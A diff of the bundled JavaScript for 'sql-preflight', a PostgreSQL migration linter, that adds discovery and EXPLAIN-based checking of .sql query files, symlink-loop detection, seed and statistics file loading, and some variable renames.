+function findAnnotations(text2, bytes, bom) {
+  const found = [];
+  for (const start of commentStarts(text2, bytes, bom)) {
+    if (start !== bom && bytes[start - 1] !== 10) continue;
+    const newline = bytes.indexOf(10, start);
+    const line = bytes.toString("utf8", start, newline === -1 ? bytes.length : newline).replace(/\r$/, "");
+    const annotation2 = readAnnotation(line);
+    if (annotation2) found.push({ ...annotation2, range: { start, end: start + Buffer.byteLength(line, "utf8") } });
+  }
+  return found;
+}
+function commentStarts(text2, bytes, bom) {
+  try {
+    return scanSync4(text2).tokens.filter((t) => t.tokenName === "SQL_COMMENT" || t.tokenName === "C_COMMENT").map((t) => t.start);
+  } catch {
+    const starts = [bom];
+    for (let i = bom; i < bytes.length; i++) if (bytes[i] === 10) starts.push(i + 1);
+    return starts.filter((s) => bytes[s] === 45 && bytes[s + 1] === 45 || bytes[s] === 47 && bytes[s + 1] === 42);
+  }
+}
+function semicolonEnds(text2) {
+  try {
+    return scanSync4(text2).tokens.filter((t) => t.text === ";").map((t) => t.end);
+  } catch {
+    return void 0;
+  }
+}
+function parseAt(bytes, start, end2) {
+  const outcome = parseSql(bytes.toString("utf8", start, end2), end2 - start);
+  if (!outcome.ok) {
+    const { message, offset } = outcome.error;
+    return { ok: false, error: { message, offset: offset === void 0 ? void 0 : offset + start } };
+  }
+  const shift = (range2) => ({ start: range2.start + start, end: range2.end + start });
+  return {
+    ok: true,
+    statements: outcome.statements.map((s) => ({ ...s, range: shift(s.range), tokens: s.tokens.map((t) => ({ ...t, range: shift(t.range) })) }))
+  };
+}
+function contentRange(bytes, start, end2) {
+  while (start < end2 && WHITESPACE.has(bytes[start])) start++;
+  while (end2 > start && (WHITESPACE.has(bytes[end2 - 1]) || bytes[end2 - 1] === 59)) end2--;
+  return { start, end: end2 };
+}
+var BOM2, PLANNABLE, WHITESPACE;
+var init_read2 = __esm({
+  "src/queries/read.ts"() {
+    "use strict";
+    init_parse();
+    init_source();
+    init_sqlc();
+    BOM2 = 65279;
+    PLANNABLE = /* @__PURE__ */ new Set(["SelectStmt", "InsertStmt", "UpdateStmt", "DeleteStmt", "MergeStmt"]);
+    WHITESPACE = /* @__PURE__ */ new Set([32, 9, 10, 13, 12]);
+  }
+});
+
+// src/queries/discover.ts
+import { lstat, readFile, realpath as realpath2, stat as stat2 } from "node:fs/promises";
+import path2, { posix as posix3 } from "node:path";
+import { escapePath, glob as glob2, isDynamicPattern as isDynamicPattern2 } from "tinyglobby";
+async function discoverQueries(cwd, globs, ignore = []) {
+  await loadParser();
+  const problems = [];
+  const matched = [];
+  for (const target of globs) matched.push(...await expand(cwd, target, ignore, problems));
+  const files = [];
+  for (const found of (await uniqueByRealPath2(cwd, matched, problems)).sort((a, b) => naturalCompare(a.path, b.path))) {
+    files.push(await load2(found));
+  }
+  return { files, problems };
+}
+async function expand(cwd, target, ignore, problems) {
+  const options = { cwd, followSymbolicLinks: true, ignore: [...SKIPPED_GLOBS2, ...ignore] };
+  if (isDynamicPattern2(target)) {
+    const matched = await glob2(target, options);
+    const sql2 = matched.filter((p) => p.endsWith(".sql"));
+    if (sql2.length === 0) problems.push({ kind: "path", path: target, message: matched.length === 0 ? "The glob matched no files." : "The glob matched no .sql files." });
+    return sql2;
+  }
+  const abs = path2.resolve(cwd, target);
+  const info = await stat2(abs).catch((error) => error);
+  if (info instanceof Error) {
+    problems.push({ kind: "path", path: target, message: info.code === "ENOENT" ? "No such file or directory." : `Cannot read it (${info.code ?? info.message}).` });
+    return [];
+  }
+  const relative2 = display2(cwd, abs);
+  if (info.isDirectory()) {
+    const sql2 = await glob2(relative2 === "." ? "**/*.sql" : `${escapePath(relative2)}/**/*.sql`, options);
+    if (sql2.length === 0) problems.push({ kind: "path", path: target, message: "No .sql files found." });
+    return sql2;
+  }
+  if (!abs.endsWith(".sql")) {
+    problems.push({ kind: "path", path: target, message: "Not a .sql file." });
+    return [];
+  }
+  const sql = await glob2(escapePath(relative2), { ...options, dot: true });
+  if (sql.length === 0) problems.push({ kind: "path", path: target, message: "It matches an ignore glob, so it was not read." });
+  return sql;
+}
+async function uniqueByRealPath2(cwd, matched, problems) {
+  const realCwd = await realpath2(cwd);
+  const candidates = await Promise.all(
+    [...new Set(matched)].map(async (file) => {
+      const abs = path2.resolve(cwd, file);
+      const real = await realpath2(abs).catch(() => abs);
+      return { path: file, abs, real, direct: real === path2.join(realCwd, file) };
+    })
+  );
+  candidates.sort((a, b) => Number(b.direct) - Number(a.direct) || a.path.split("/").length - b.path.split("/").length || naturalCompare(a.path, b.path));
+  const seen = /* @__PURE__ */ new Set();
+  const loops = /* @__PURE__ */ new Set();
+  const unique4 = [];
+  for (const candidate of candidates) {
+    if (!seen.has(candidate.real)) {
+      seen.add(candidate.real);
+      unique4.push({ path: candidate.path, abs: candidate.abs });
+      continue;
+    }
+    const loop = await loopThrough(cwd, candidate.path);
+    if (loop && !loops.has(loop.link)) {
+      loops.add(loop.link);
+      problems.push({ kind: "path", path: loop.link, message: `Symbolic link loop: it points to ${loop.target}, which contains it; the files below it were read once, at their real paths.` });
+    }
+  }
+  return unique4;
+}
+async function loopThrough(cwd, file) {
+  const folders = posix3.dirname(file).split("/");
+  for (let i = 1; i <= folders.length; i++) {
+    const link = folders.slice(0, i).join("/");
+    const abs = path2.resolve(cwd, link);
+    if (!(await lstat(abs).catch(() => void 0))?.isSymbolicLink()) continue;
+    const target = await realpath2(abs);
+    const relative2 = path2.relative(target, await realpath2(path2.dirname(abs)));
+    if (relative2 !== ".." && !relative2.startsWith(`..${path2.sep}`) && !path2.isAbsolute(relative2)) return { link, target: display2(cwd, target) };
+  }
+  return void 0;
+}
+async function load2(found) {
+  let bytes;
+  try {
+    bytes = await readFile(found.abs);
+  } catch (error) {
+    return { path: found.path, text: "", queries: [], readError: { message: `The file could not be read (${error.code ?? error.message}).` } };
+  }
+  const { text: text2, readError } = decodeSql(bytes);
+  return readError ? { path: found.path, text: text2, queries: [], readError } : { path: found.path, text: text2, queries: readQueryFile(found.path, text2) };
+}
+function display2(cwd, abs) {
+  return path2.relative(cwd, abs).split(path2.sep).join("/") || ".";
+}
+var SKIPPED_GLOBS2;
+var init_discover2 = __esm({
+  "src/queries/discover.ts"() {
+    "use strict";
+    init_parse();
+    init_order2();
+    init_text3();
+    init_read2();
+    SKIPPED_GLOBS2 = ["**/node_modules/**", "**/.git/**"];
+  }
+});
+
+// src/queries/index.ts
+var init_queries = __esm({
+  "src/queries/index.ts"() {
+    "use strict";
+    init_discover2();
+    init_read2();
+  }
+});
+
 // src/version.ts
 var VERSION;
 var init_version = __esm({
@@ -8938,7 +13536,7 @@ var init_version = __esm({
 });
 
 // src/run.ts
-import { readFile } from "node:fs/promises";
+import { readFile as readFile2 } from "node:fs/promises";
 import { relative, resolve as resolve2 } from "node:path";
 async function run2(options) {
   const started = performance.now();
@@ -8946,6 +13544,7 @@ async function run2(options) {
   const postgresVersion = options.postgresVersion ?? config.postgresVersion ?? DEFAULT_POSTGRES_VERSION;
   const failOn = options.failOn ?? config.failOn ?? "error";
   const progress = options.progress ?? silentProgress;
+  const rulesById = new Map(rules.map((r) => [r.meta.id, r]));
   const phases = [];
   const phase = async (name, work) => {
     const start = performance.now();
@@ -8962,19 +13561,23 @@ async function run2(options) {
   if (targets.length === 0) {
     problems.push("Nothing to check: give migration paths on the command line or list them under `migrations` in .sql-preflight.yml.");
   }
-  const { discovery, change } = await phase("discover", async () => {
+  const queryTargets = options.database ? [...config.queries.map(fromRoot), ...options.queries ?? []] : [];
+  const { discovery, queryFiles, change } = await phase("discover", async () => {
     const discovery2 = await discoverMigrations(options.cwd, targets, migrations, config.ignore.map(fromRoot));
-    return { discovery: discovery2, change: await selectChange(options, discovery2.sets) };
+    const queries = queryTargets.length > 0 ? await discoverQueries(options.cwd, queryTargets, config.ignore.map(fromRoot)) : { files: [], problems: [] };
+    problems.push(...queries.problems.map((p) => `${p.path}: ${p.message}`));
+    const known = [...discovery2.sets.flatMap((s) => s.files.map((f) => f.path)), ...queries.files.map((f) => f.path)];
+    return { discovery: discovery2, queryFiles: queries.files, change: await selectChange(options, known) };
   });
   problems.push(...discovery.problems.filter((p) => p.kind === "path").map((p) => `${p.path}: ${p.message}`));
   const extraFindings = [];
-  const fileLevel = (rule, path2, message) => {
+  const fileLevel = (rule, path3, message) => {
     const severity = config.rules[rule.meta.id]?.severity ?? rule.meta.severity;
-    if (severity !== "off") extraFindings.push(fileFinding(rule, path2, message, severity));
+    if (severity !== "off") extraFindings.push(fileFinding(rule, path3, message, severity));
   };
   for (const p of discovery.problems) if (p.kind === "runner") fileLevel(migration_layout_default, p.path, p.message);
-  for (const path2 of change.modified) {
-    fileLevel(modified_migration_default, path2, `This migration already existed at ${options.base} and was edited: databases that applied it will not run the edit.`);
+  for (const path3 of change.modified) {
+    fileLevel(modified_migration_default, path3, `This migration already existed at ${options.base} and was edited: databases that applied it will not run the edit.`);
   }
   const results = await phase("lint", async () => {
     await loadParser();
@@ -8983,20 +13586,54 @@ async function run2(options) {
       return lintSources(sources, { postgresVersion, rules, ruleSettings: config.rules });
     });
   });
+  const unreadable = rulesById.get(ENGINE_RULES.unreadableFile);
+  const unreadableSeverity = config.rules[unreadable.meta.id]?.severity ?? unreadable.meta.severity;
+  for (const file of queryFiles) {
+    if (!file.readError || !change.isChanged(file.path) || unreadableSeverity === "off") continue;
+    const range2 = file.readError.range ?? { start: 0, end: 0 };
+    extraFindings.push(toFinding(unreadable.meta.id, unreadableSeverity, file.path, new LineIndex(file.text), range2, { message: file.readError.message }, void 0, unreadable));
+  }
   let findings = [...results.flatMap((r) => r.findings), ...extraFindings];
   let dynamic;
   let refuted = [];
   if (options.database) {
     const sets = await dynamicSets(discovery.sets, results, change, options);
+    const planned = queryFiles.filter((f) => !f.readError);
+    if (planned.length > 0 || config.seed.files.length > 0) {
+      const set = sets[0] ?? existingOnly(discovery.sets[0]);
+      if (set) {
+        set.explain = {
+          queryFiles: planned,
+          isChanged: (path3) => change.isChanged(path3),
+          analyze: options.analyze ?? false,
+          seed: { ...config.seed, files: await readSqlFiles(config.seed.files, "seed", fromRoot, options.cwd) },
+          tables: config.tables,
+          ...options.statsFile ? { stats: await readStats(options.statsFile, options.cwd) } : {},
+          rules: rulesById,
+          ruleSettings: config.rules,
+          progress
+        };
+        if (sets.length === 0) sets.push(set);
+      }
+    }
+    const deadline = config.runTimeoutMs === void 0 ? void 0 : { atMs: Date.now() + config.runTimeoutMs, seconds: config.runTimeoutMs / 1e3 };
     dynamic = await runDynamic(sets, {
-      database: { kind: options.database.kind, databaseUrl: options.database.url, postgresImage: options.database.image, postgresVersion, statementTimeoutMs: config.statementTimeoutMs },
-      setup: await readSetup(config, fromRoot, options.cwd),
+      database: {
+        kind: options.database.kind,
+        databaseUrl: options.database.url,
+        postgresImage: options.database.image,
+        postgresVersion,
+        statementTimeoutMs: config.statementTimeoutMs,
+        ...deadline ? { deadline } : {}
+      },
+      setup: await readSqlFiles(config.setup, "setup", fromRoot, options.cwd),
       tables: config.tables,
-      rules: new Map(rules.map((r) => [r.meta.id, r])),
+      rules: rulesById,
       progress: { ...progress, phase }
     });
-    const merged = mergeTrace(findings, dynamic.traced, new Map(rules.map((r) => [r.meta.id, r])));
-    findings = [...merged.findings, ...dynamic.findings.filter((f) => config.rules[f.ruleId]?.severity !== "off")];
+    const merged = mergeTrace(findings, dynamic.traced, rulesById);
+    const dynamicFindings = [...dynamic.findings, ...dynamic.explain?.findings ?? []];
+    findings = [...merged.findings, ...dynamicFindings.filter((f) => config.rules[f.ruleId]?.severity !== "off")];
     refuted = merged.refuted;
     problems.push(...dynamic.problems);
   }
@@ -9012,34 +13649,40 @@ async function run2(options) {
       }
     }
     if (dynamic.database.provider !== "none") report.database = dynamic.database;
+    if (dynamic.explain) {
+      report.seed = dynamic.explain.seed;
+      report.queries = dynamic.explain.queries;
+      if (dynamic.explain.notes.length > 0) report.notes = dynamic.explain.notes;
+    }
   }
   report.phases = [...phases, { name: "total", durationMs: Math.round(performance.now() - started) }];
   const failing = failOn !== "never" && report.findings.some((f) => SEVERITIES.indexOf(f.severity) <= SEVERITIES.indexOf(failOn));
   return { report, config, failOn, problems, refuted, exitCode: problems.length > 0 ? 2 : failing ? 1 : 0 };
 }
-async function selectChange(options, sets) {
+async function selectChange(options, files) {
   if (options.base) {
     const git2 = await changedSince(options.cwd, options.base);
-    const repoPath = (path2) => relative(git2.root, resolve2(options.cwd, path2)).split("\\").join("/");
-    const files = sets.flatMap((s) => s.files.map((f) => f.path));
+    const repoPath = (path3) => relative(git2.root, resolve2(options.cwd, path3)).split("\\").join("/");
     const modified = new Set(files.filter((p) => git2.modified.has(repoPath(p))));
     return {
-      isChanged: (path2) => git2.changed.has(repoPath(path2)),
+      isChanged: (path3) => git2.changed.has(repoPath(path3)),
       id: () => "change",
       modified,
-      baseText: (path2) => fileAt(git2.root, options.base, repoPath(path2))
+      baseText: (path3) => fileAt(git2.root, options.base, repoPath(path3))
     };
   }
   if (options.changed) {
     const wanted = new Set(options.changed.map((p) => resolve2(options.cwd, p)));
-    const known = new Set(sets.flatMap((s) => s.files.map((f) => resolve2(options.cwd, f.path))));
+    const known = new Set(files.map((f) => resolve2(options.cwd, f)));
     const unknown = [...wanted].filter((p) => !known.has(p));
-    if (unknown.length) throw new UsageError(`--changed names files that are not among the migrations: ${unknown.map((p) => relative(options.cwd, p)).join(", ")}.`);
-    return { isChanged: (path2) => wanted.has(resolve2(options.cwd, path2)), id: () => "change", modified: /* @__PURE__ */ new Set(), baseText: async () => void 0 };
+    if (unknown.length && !options.changedIncludesOtherFiles) {
+      throw new UsageError(`--changed names files that are not among the migrations or query files: ${unknown.map((p) => relative(options.cwd, p)).join(", ")}.`);
+    }
+    return { isChanged: (path3) => wanted.has(resolve2(options.cwd, path3)), id: () => "change", modified: /* @__PURE__ */ new Set(), baseText: async () => void 0 };
   }
   return {
     isChanged: () => true,
-    id: (path2) => options.database ? "change" : path2,
+    id: (path3) => options.database ? "change" : path3,
     modified: /* @__PURE__ */ new Set(),
     baseText: async () => void 0
   };
@@ -9051,10 +13694,10 @@ async function dynamicSets(sets, results, change, options) {
     const changed = [];
     for (const file of set.files) {
       if (change.modified.has(file.path)) {
-        const text = await change.baseText(file.path);
-        if (text !== void 0) {
-          const base = readMigrationFile({ format: file.format, path: file.path, text, version: file.version }).file;
-          existing.push({ path: file.path, text, skipped: base.skipped, transaction: file.transaction });
+        const text2 = await change.baseText(file.path);
+        if (text2 !== void 0) {
+          const base = readMigrationFile({ format: file.format, path: file.path, text: text2, version: file.version }).file;
+          existing.push({ path: file.path, text: text2, skipped: base.skipped, transaction: file.transaction });
         }
       } else if (change.isChanged(file.path)) {
         changed.push({ file, analyzed: results[i].changed.get(file.path) });
@@ -9066,31 +13709,45 @@ async function dynamicSets(sets, results, change, options) {
   }
   return dynamic;
 }
-async function readSetup(config, fromRoot, cwd) {
+function existingOnly(set) {
+  if (!set) return void 0;
+  const existing = set.files.filter((f) => !f.readError).map((f) => ({ path: f.path, text: f.text, skipped: f.skipped, transaction: f.transaction }));
+  return { existing, changed: [] };
+}
+async function readSqlFiles(paths, purpose, fromRoot, cwd) {
   return Promise.all(
-    config.setup.map(async (path2) => {
-      const shown = fromRoot(path2);
+    paths.map(async (path3) => {
+      const shown = fromRoot(path3);
       try {
-        return { path: shown, text: await readFile(resolve2(cwd, shown), "utf8") };
+        return { path: shown, text: await readFile2(resolve2(cwd, shown), "utf8") };
       } catch (error) {
-        throw new UsageError(`${shown}: cannot read the setup SQL file listed in the config (${error.code ?? String(error)}).`);
+        throw new UsageError(`${shown}: cannot read the ${purpose} SQL file listed in the config (${error.code ?? String(error)}).`);
       }
     })
   );
 }
+async function readStats(path3, cwd) {
+  let text2;
+  try {
+    text2 = await readFile2(resolve2(cwd, path3), "utf8");
+  } catch (error) {
+    throw new UsageError(`${path3}: cannot read the statistics file (${error.code ?? String(error)}).`);
+  }
+  return readStatsFile(path3, text2);
+}
 function buildReport(results, findings, postgresVersion, refuted) {
   const files = results.flatMap((r) => r.files);
   const sorted = sortFindings(findings);
-  const count = (severity) => sorted.filter((f) => f.severity === severity).length;
+  const count2 = (severity) => sorted.filter((f) => f.severity === severity).length;
   return {
     tool: { name: "sql-preflight", version: VERSION },
     postgresVersion,
     files,
     findings: sorted,
     summary: {
-      error: count("error"),
-      warning: count("warning"),
-      notice: count("notice"),
+      error: count2("error"),
+      warning: count2("warning"),
+      notice: count2("notice"),
       total: sorted.length,
       files: files.length,
       statements: files.reduce((n, f) => n + f.statements.length, 0),
@@ -9110,10 +13767,13 @@ var init_run = __esm({
     init_lint();
     init_parse();
     init_progress();
+    init_source();
     init_types();
     init_errors();
     init_migrations();
+    init_queries();
     init_rules();
+    init_stats();
     init_migration_layout();
     init_modified_migration();
     init_version();
@@ -9145,17 +13805,17 @@ function terminalProgress(stream) {
 `);
       }
     },
-    step(done, total, label) {
+    step(done, total, label2) {
       const elapsed = seconds(performance.now() - phaseStart);
       if (live) {
-        const text = `${phaseName}: ${done}/${total} ${label} (${elapsed})`;
-        stream.write(`\r\x1B[K${text.slice(0, (stream.columns ?? 100) - 1)}`);
+        const text2 = `${phaseName}: ${done}/${total} ${label2} (${elapsed})`;
+        stream.write(`\r\x1B[K${text2.slice(0, (stream.columns ?? 100) - 1)}`);
         return;
       }
       const tenth = total === 0 ? 10 : Math.floor(done / total * 10);
       if (tenth === lastTenth || done === total) return;
       lastTenth = tenth;
-      stream.write(`sql-preflight: ${phaseName} ${done}/${total} ${label} (${elapsed})
+      stream.write(`sql-preflight: ${phaseName} ${done}/${total} ${label2} (${elapsed})
 `);
     },
     note(message) {
@@ -9266,7 +13926,7 @@ async function main(argv) {
     for (const problem of result2.problems) process.stderr.write(`sql-preflight: ${problem}
 `);
     const output = reporters[format].render(result2.report, {
-      readSource: (path2) => readSource(resolve3(cwd, path2)),
+      readSource: (path3) => readSource(resolve3(cwd, path3)),
       rules: rules.map((r) => r.meta),
       color: !values.output && !values["no-color"] && process.stdout.isTTY === true && !process.env.NO_COLOR
     });
@@ -9285,9 +13945,9 @@ async function main(argv) {
     throw error;
   }
 }
-function readSource(path2) {
+function readSource(path3) {
   try {
-    return readFileSync3(path2, "utf8");
+    return readFileSync3(path3, "utf8");
   } catch {
     return void 0;
   }
